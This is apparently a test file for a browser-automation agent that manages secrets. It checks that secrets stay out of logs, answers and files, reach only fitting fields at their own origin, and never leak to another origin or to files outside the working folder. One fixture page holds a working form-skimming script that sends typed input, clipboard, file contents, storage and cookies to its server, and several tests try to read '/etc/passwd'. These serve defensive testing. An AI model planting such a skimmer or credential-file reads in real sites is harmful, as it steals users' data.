import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { contentOf } from '../content-of.ts';
import { type PageServer, servePages } from '../serve-pages.ts';
import { type Agent, startAgent } from '../tools/agent.ts';
import { secretsFile } from './secrets-file.ts';

const HARD = `h"u\\n!'()ter2`;
const LONG = 'correct-horse-battery-staple-'.repeat(6);

let pages: PageServer;
let agent: Agent;

beforeAll(async () => {
  const form = `<form action=/sent><label>Email <input name=email></label><label>Password <input type=password name=pw></label>
    <label>Bio <input name=bio></label><button>Send</button></form><input type=file aria-label=Photo>`;
  pages = await servePages({
    '/login': form,
    '/sent': '<h1>Sent</h1>',
    // Whoever opens this page tells its server all that the page can read.
    '/tells': `${form}<select aria-label=Kind><option>One</option></select><button onclick="tell(prompt('Name?'))">Ask</button><script>
      const tell = (text) => fetch('/got/' + encodeURIComponent(text));
      addEventListener('input', ({ target }) => tell(target.value), true);
      addEventListener('paste', ({ clipboardData }) => tell(clipboardData.getData('text')), true);
      addEventListener('drop', ({ dataTransfer }) => tell(dataTransfer.getData('text')), true);
      addEventListener('change', ({ target }) => target.files?.[0]?.text().then(tell), true);
      setInterval(() => tell(JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])), 200);
    </script>`,
    '/framed': (_, response) =>
      response
        .setHeader('content-type', 'text/html')
        .end(`${form}<iframe width=600 height=300 src="http://localhost:${pages.port}/tells"></iframe>`),
    // A site keeps what strangers wrote apart from itself so.
    '/apart': '<iframe sandbox="allow-scripts" src="/login"></iframe>',
  });
  agent = await startAgent(
    '--toolset',
    'all',
    '--allowed-schemes',
    'file',
    '--secrets',
    secretsFile(`HARD=${HARD}\nLONG=${LONG}\nSHOP_EMAIL=ann@shop.test\nBANK@https://bank.test=bank-pw\n`),
  );
}, 60_000);

afterAll(async () => {
  await agent?.close();
  await pages?.close();
});

const open = (host = '127.0.0.1') => agent.does('navigate', { url: `http://${host}:${pages.port}/login` });

test('secrets with quotes, over 60 characters, or percent-encoded show up in no answer and no file', async () => {
  await open();
  const answers = [
    await agent.call('fill', { target: 'textbox "Bio"', value: '{{HARD}}' }),
    await agent.call('describe_screen', { detail: true }),
    await agent.call('fill', { target: 'textbox "Bio"', value: '{{LONG}}' }),
    await agent.call('describe_screen'),
    await agent.call('get_snapshot'),
    await agent.call('read_page'),
    await agent.call('fill', { target: 'textbox "Email"', value: '{{HARD}}' }),
    await agent.call('click', { target: 'button "Send"' }),
    await agent.call('get_network_activity'),
    await agent.call('tabs'),
    await agent.call('get_trace'),
    await agent.call('knowledge_last'),
  ];
  const written = [
    ...answers.map(({ text, raw }) => text + JSON.stringify(raw)),
    ...readdirSync(agent.folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => contentOf(join(parentPath, name))),
  ];
  for (const one of written) expect(one).not.toMatch(/ter2|correct-horse|horse-battery/);
}, 60_000);

test('what is written is its user alone to read', () => {
  for (const name of readdirSync(agent.folder, { recursive: true, encoding: 'utf8' })) {
    // The index renames what it has written: a name may be gone again.
    const written = statSync(join(agent.folder, name), { throwIfNoEntry: false });
    expect((written?.mode ?? 0) & 0o077, name).toBe(0);
  }
});

test('a secret goes into a field that is fit for it or that the caller names, and nowhere else', async () => {
  const shown = await open();
  const ref = (name: string) => new RegExp(`(@e\\d+) textbox "${name}"`).exec(shown)?.[1] ?? '';
  await agent.does('fill', { target: ref('Password'), value: '{{LONG}}' });
  await agent.does('fill', { target: ref('Email'), value: '{{SHOP_EMAIL}}' });
  expect(await agent.fails('fill', { target: ref('Bio'), value: '{{HARD}}' })).toContain('no field for one');
  expect(await agent.fails('fill', { target: ref('Bio'), value: HARD })).toContain('{{HARD}} is a secret');
  expect(await agent.does('describe_screen')).not.toMatch(/"Bio" =/);
}, 30_000);

test('the name of a secret stays readable in records after it was typed into a password field', async () => {
  await open();
  await agent.does('fill', { target: 'textbox "Password"', value: '{{LONG}}' });
  await agent.does('fill', { target: 'textbox "Bio"', value: '{{LONG}}' });
  const [last] = readdirSync(agent.folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('-fill.json'))
    .sort()
    .reverse();
  expect(readFileSync(join(agent.folder, last ?? ''), 'utf8')).toContain('"value":"{{LONG}}"');
}, 30_000);

test('a secret for what has the focus is typed only where that field is fit for it', async () => {
  await open();
  await agent.does('click', { target: 'Bio' });
  expect(await agent.fails('fill', { value: '{{HARD}}' })).toContain('no field for one');
  expect(await agent.does('describe_screen')).not.toMatch(/"Bio" =/);
  await agent.does('click', { target: 'Password' });
  expect(await agent.does('fill', { value: '{{HARD}}' })).toMatch(
    /^filled textbox "Password" \(its value is hidden\)/,
  );
}, 30_000);

test('a secret is typed only at its own origin, an unbound one only at the first address', async () => {
  await open();
  expect(await agent.fails('fill', { target: 'textbox "Password"', value: '{{BANK}}' })).toContain(
    `write BANK@${pages.url}=`,
  );
  await open('localhost');
  expect(await agent.fails('fill', { target: 'textbox "Password"', value: '{{LONG}}' })).toContain(
    `belongs to ${pages.url}`,
  );
  await agent.does('navigate', { url: `${pages.url}/apart` });
  expect(await agent.fails('fill', { target: 'textbox "Password"', value: '{{LONG}}' })).toContain(
    'this page is of no origin',
  );
}, 30_000);

/** What a page of another origin came to know, in the words of its server. */
const told = () =>
  pages.hits
    .filter((path) => path.startsWith('/got/'))
    .map(decodeURIComponent)
    .join('\n');
const VALUES = /ter2|correct-horse|bank-pw/;

test.each([
  ...['local', 'session', 'cookies'].map((kind): [string, [string, Record<string, unknown>][]] => [
    `${kind} of the page`,
    [['change_storage', { kind, name: 'x', value: '{{LONG}}' }]],
  ]),
  ['another secret in its storage', [['change_storage', { kind: 'local', name: 'y', value: '{{BANK}}' }]]],
  ['fill', [['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }]]],
  ['fill with its value', [['fill', { target: 'textbox "Bio"', value: LONG }]]],
  ['a step', [['run_steps', { steps: ['fill "Bio" with "{{LONG}}"'] }]]],
  ['select', [['select', { target: 'Kind', value: '{{LONG}}' }]]],
  ['adjust_control', [['adjust_control', { target: 'textbox "Bio"', value: '{{LONG}}' }]]],
  ['an address', [['navigate', { url: '{other}/got/{{LONG}}' }]]],
  [
    'an answer in the place of its server',
    [
      [
        'mock_route',
        { url: '*/mocked', content_type: 'text/html', body: '<script>fetch("/got/{{LONG}}")</script>' },
      ],
      ['navigate', { url: '{other}/mocked' }],
      ['unmock_route', {}],
    ],
  ],
  [
    'the answer to its question',
    [
      ['click', { target: 'button "Ask"' }],
      ['handle_dialog', { accept: true, text: '{{LONG}}' }],
      ['handle_dialog', { accept: false }],
    ],
  ],
  [
    'the clipboard',
    [
      ['navigate', { url: '{home}/login' }],
      ['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }],
      ['press_key', { key: 'Control+a' }],
      ['press_key', { key: 'Control+c' }],
      ['navigate', { url: '{other}/tells' }],
      ['click', { target: 'textbox "Bio"' }],
      ['press_key', { key: 'Control+v' }],
      ['press_key', { key: 'Shift+Insert' }],
    ],
  ],
  [
    'the clipboard, as steps',
    [
      ['navigate', { url: '{home}/login' }],
      ['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }],
      ['run_steps', { steps: ['press Control+a', 'press Control+x'], keep_going: true }],
      ['navigate', { url: '{other}/tells' }],
      ['run_steps', { steps: ['click textbox "Bio"', 'press Control+v'], keep_going: true }],
    ],
  ],
  [
    'a drag into a frame',
    [
      ['navigate', { url: '{home}/framed' }],
      ['fill', { target: 'css:input[name=bio]', value: '{{LONG}}' }],
      ['click', { target: 'css:input[name=bio]', double: true }],
      ['drag', { target: 'css:input[name=bio]', to: 'css:iframe' }],
    ],
  ],
  [
    'keys in a frame',
    [
      ['navigate', { url: '{home}/framed' }],
      ['fill', { target: 'css:input[name=bio]', value: '{{LONG}}' }],
      ['press_key', { key: 'Control+a' }],
      ['press_key', { key: 'Control+c' }],
      ['click', { target: 'css:iframe', position: { x: 200, y: 15 } }],
      ['press_key', { key: 'Control+v' }],
    ],
  ],
  ['a file that holds it', [['upload_files', { target: 'css:input[type=file]', paths: ['{file}'] }]]],
  [
    'a login that was kept',
    [
      ['navigate', { url: '{home}/login' }],
      ['change_storage', { kind: 'local', name: 'token', value: '{{LONG}}' }],
      ['cleanup', { save_storage_state: '{state}' }],
      ['navigate', { url: '{other}/tells' }],
      ['upload_files', { target: 'css:input[type=file]', paths: ['{state}'] }],
    ],
  ],
] satisfies [string, [string, Record<string, unknown>][]][])(
  'a page of another origin gets no secret by %s',
  async (name, calls) => {
    const file = join(agent.folder, 'notes.txt');
    writeFileSync(file, `mine: ${HARD}\n`);
    const words: Record<string, string> = {
      home: pages.url,
      other: `http://localhost:${pages.port}`,
      file,
      state: join(agent.folder, `${name.replaceAll(' ', '-')}.json`),
    };
    await open();
    await agent.does('navigate', { url: `${words.other}/tells` });
    pages.hits.length = 0;
    for (const [tool, input] of calls) {
      const given = JSON.stringify(input).replace(
        /\{(home|other|file|state)\}/g,
        (_, word) => words[word] ?? '',
      );
      await agent.call(tool, JSON.parse(given));
    }
    await agent.call('wait_for_response', { url: '/got/', timeout_ms: 500 });
    expect(told()).not.toMatch(VALUES);
  },
  30_000,
);

test('an agent reads, sends and writes no file outside the working folder, and overwrites none', async () => {
  await open();
  const upload = { target: 'css:input[type=file]', paths: ['/etc/passwd'] };
  expect(await agent.fails('upload_files', upload)).toContain('--allowed-paths');
  expect(await agent.fails('navigate', { url: 'file:///etc/passwd' })).toContain('--allowed-paths');
  expect(await agent.fails('cleanup', { save_storage_state: '/etc/surehand-state' })).toContain(
    '--allowed-paths',
  );
  expect(existsSync('/etc/surehand-state')).toBe(false);
  expect(await agent.fails('launch', { storage_state: '/etc/passwd' })).toContain('--allowed-paths');
  const mine = join(agent.folder, 'mine.json');
  writeFileSync(mine, 'mine');
  expect(await agent.fails('cleanup', { save_storage_state: mine })).toContain('is there already');
  expect(readFileSync(mine, 'utf8')).toBe('mine');
  await agent.does('upload_files', { target: 'css:input[type=file]', paths: [mine] });
}, 30_000);

test('a page in the working folder leads to no file outside: by a frame, a link, a script, a popup or itself', async () => {
  const outside = mkdtempSync(join(tmpdir(), 'leaks-outside-'));
  const address = `file://${join(outside, 'page.html')}`;
  writeFileSync(join(outside, 'page.html'), '<h1>Mine alone</h1>');
  const inside: Record<string, string> = {
    'frame.html': `<h1>Here</h1><iframe src="${address}"></iframe><iframe src="beside.html"></iframe>`,
    'beside.html': '<button>Beside</button>',
    'link.html': `<a href="${address}">Go</a>`,
    'script.html': `<button onclick="location='${address}'">Go</button>`,
    'popup.html': `<a target="_blank" href="${address}">Go</a>`,
    'refresh.html': `<meta http-equiv="refresh" content="0;url=${address}">`,
  };
  let seen = '';
  for (const [name, page] of Object.entries(inside)) {
    writeFileSync(join(agent.folder, name), page);
    await agent.call('navigate', { url: `file://${join(agent.folder, name)}` });
    if (page.includes('>Go<')) await agent.call('click', { target: 'Go' });
    for (const tool of ['describe_screen', 'read_page', 'tabs']) seen += (await agent.call(tool)).text;
  }
  rmSync(outside, { recursive: true });
  expect(seen).not.toContain('Mine alone');
  expect(seen).toContain('heading 1 "Here"');
  expect(seen, 'what lies inside is framed as before').toContain('button "Beside"');
}, 60_000);
